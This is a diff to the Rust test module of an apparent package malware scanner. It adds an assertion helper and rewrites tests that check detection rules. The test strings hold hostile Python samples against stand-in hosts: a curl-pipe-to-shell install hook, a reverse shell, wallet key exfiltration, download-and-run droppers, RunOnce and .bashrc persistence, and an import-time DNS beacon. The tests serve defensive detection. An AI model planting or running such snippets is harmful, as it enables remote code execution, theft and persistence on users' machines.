@@ -1559,6 +1559,14 @@ mod tests {
     use super::*;
     use crate::scan::rules::rules;
 
+    /// Asserts that `text` at `path` is reported under `rule` at `severity`,
+    /// showing what was reported when it is not.
+    #[track_caller]
+    fn assert_reports(path: &str, text: &str, rule: RuleId, severity: Severity) {
+        let got = rules_of(path, text, &[]);
+        assert!(got.contains(&(rule, severity)), "{path}: {got:?}");
+    }
+
     fn rules_of(path: &str, text: &str, startup: &[String]) -> Vec<(RuleId, Severity)> {
         let r = rules().unwrap();
         analyze(r, path, text.as_bytes(), role(path, startup))
@@ -1645,7 +1653,7 @@ mod tests {
             vec![(RuleId::ObfuscatedExec, Severity::High)]
         );
         let hook = "import os\nfrom setuptools.command.install import install\nclass H(install):\n    def run(self):\n        os.system('curl https://x.example/a | sh')\nsetup(cmdclass={'install': H})\n";
-        assert!(rules_of("p/setup.py", hook, &[]).contains(&(RuleId::InstallHook, Severity::High)));
+        assert_reports("p/setup.py", hook, RuleId::InstallHook, Severity::High);
     }
 
     fn exfil_of(path: &str, text: &str) -> Vec<Severity> {
@@ -1746,9 +1754,11 @@ mod tests {
         assert_eq!(exfil_of("p/pkg/cli.py", &file), vec![Severity::High]);
         // Code fetched and planted where Python imports it, on import.
         let plant = "import requests, threading, os\ndef init():\n    code = requests.get(URL).text\n    with open(os.path.join(SITE, 'helper', '__init__.py'), 'w') as f:\n        f.write(code)\nthreading.Thread(target=init).start()\n";
-        assert!(
-            rules_of("p/pkg/__init__.py", plant, &[])
-                .contains(&(RuleId::DownloadExec, Severity::Critical))
+        assert_reports(
+            "p/pkg/__init__.py",
+            plant,
+            RuleId::DownloadExec,
+            Severity::Critical,
         );
         // A script piped from the network to an interpreter.
         let piped = "import subprocess\nsubprocess.run('curl -s https://x.example/a | python3', shell=True)\n";
@@ -1772,9 +1782,11 @@ mod tests {
     #[test]
     fn persistence_reverse_shells_wallet_keys_and_list_downloads() {
         let run_key = "import subprocess\nsubprocess.Popen('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce /v x /d y.exe')\n";
-        assert!(
-            rules_of("p/setup.py", run_key, &[])
-                .contains(&(RuleId::Persistence, Severity::Critical))
+        assert_reports(
+            "p/setup.py",
+            run_key,
+            RuleId::Persistence,
+            Severity::Critical,
         );
         // Named in help text at a module's top level: a word, medium.
         let words = "HELP = 'add the line to ~/.bashrc'\n";
@@ -1783,18 +1795,18 @@ mod tests {
             vec![(RuleId::Persistence, Severity::Medium)]
         );
         let shell = "import socket, os, pty\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/bash')\n";
-        assert!(
-            rules_of("p/pkg/__init__.py", shell, &[])
-                .contains(&(RuleId::DownloadExec, Severity::Critical))
+        assert_reports(
+            "p/pkg/__init__.py",
+            shell,
+            RuleId::DownloadExec,
+            Severity::Critical,
         );
         // A wallet's private key handed to a function that posts it.
         let key = "import requests\ndef perm(private_key):\n    requests.post('https://x.example/api', [{'k', private_key}])\n";
         assert_eq!(exfil_of("p/pkg/main.py", key), vec![Severity::High]);
         // curl's output file started.
         let curl = "import subprocess, os\npath = os.environ['TEMP'] + '\\\\a.exe'\nsubprocess.call(['curl.exe', URL, '-o', path])\nsubprocess.call([path])\n";
-        assert!(
-            rules_of("p/setup.py", curl, &[]).contains(&(RuleId::DownloadExec, Severity::Critical))
-        );
+        assert_reports("p/setup.py", curl, RuleId::DownloadExec, Severity::Critical);
     }
 
     #[test]
@@ -1806,24 +1818,28 @@ mod tests {
                 .all(|(_, s)| *s <= Severity::Medium)
         );
         let appending = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 /tmp/.x/agent.py &')\n";
-        assert!(
-            rules_of("p/pkg/__init__.py", appending, &[])
-                .contains(&(RuleId::Persistence, Severity::Critical))
+        assert_reports(
+            "p/pkg/__init__.py",
+            appending,
+            RuleId::Persistence,
+            Severity::Critical,
         );
-        assert!(
-            rules_of("p/pkg/util.py", appending, &[])
-                .contains(&(RuleId::Persistence, Severity::High))
+        assert_reports(
+            "p/pkg/util.py",
+            appending,
+            RuleId::Persistence,
+            Severity::High,
         );
     }
 
     #[test]
     fn a_launcher_staged_on_disk_is_analysed_as_code() {
         let staged = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\n_t = _f(delete=False)\n_t.write(b\"\"\"from urllib.request import urlopen as _u;exec(_u('https://x.example/raw').read())\"\"\")\n_t.close()\n_s(f\"start {_e} {_t.name}\")\n";
-        assert!(
-            rules_of("p/setup.py", staged, &[])
-                .contains(&(RuleId::DownloadExec, Severity::Critical)),
-            "{:?}",
-            rules_of("p/setup.py", staged, &[])
+        assert_reports(
+            "p/setup.py",
+            staged,
+            RuleId::DownloadExec,
+            Severity::Critical,
         );
         // A template written by a generator is only what its code does.
         let template = "with open('conf.py', 'w') as f:\n    f.write('import os\\nDEBUG = os.environ.get(\"DEBUG\")\\n')\n";
@@ -1834,11 +1850,11 @@ mod tests {
     fn a_dropper_split_into_functions_is_one_flow() {
         let dropper = "import os, requests, subprocess\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\ndef start(exe):\n    subprocess.run([exe])\ndef go():\n    target = os.path.join(os.getenv('APPDATA'), 'x.exe')\n    fetch(URL, target)\n    start(target)\n";
         let init = format!("{dropper}go()\n");
-        assert!(
-            rules_of("p/pkg/__init__.py", &init, &[])
-                .contains(&(RuleId::DownloadExec, Severity::Critical)),
-            "{:?}",
-            rules_of("p/pkg/__init__.py", &init, &[])
+        assert_reports(
+            "p/pkg/__init__.py",
+            &init,
+            RuleId::DownloadExec,
+            Severity::Critical,
         );
         // Fetching to one path and running another is not a flow.
         let apart = "import requests, subprocess\ndef fetch(url, dest):\n    open(dest, 'wb').write(requests.get(url).content)\ndef start(exe):\n    subprocess.run([exe])\nfetch(URL, 'data.json')\nstart('git')\n";
@@ -1854,15 +1870,19 @@ mod tests {
     #[test]
     fn a_beacon_on_import_is_a_suspicious_endpoint() {
         let probe = "import socket\ndef _ping():\n    try:\n        socket.gethostbyname('pkg.probe.example')\n    except OSError:\n        pass\n_ping()\n";
-        assert!(
-            rules_of("p/pkg/__init__.py", probe, &[])
-                .contains(&(RuleId::SuspiciousEndpoint, Severity::High))
+        assert_reports(
+            "p/pkg/__init__.py",
+            probe,
+            RuleId::SuspiciousEndpoint,
+            Severity::High,
         );
         // The package's name as a subdomain of someone else's host.
         let named = "import socket\nsocket.gethostbyname('pkg.probe.example')\n";
-        assert!(
-            rules_of("pkg-1.0/pkg/__init__.py", named, &[])
-                .contains(&(RuleId::SuspiciousEndpoint, Severity::High))
+        assert_reports(
+            "pkg-1.0/pkg/__init__.py",
+            named,
+            RuleId::SuspiciousEndpoint,
+            Severity::High,
         );
         // Only when called, or to the project's own host: quiet.
         let asked = "import socket\ndef ping():\n    socket.gethostbyname('pkg.probe.example')\n";
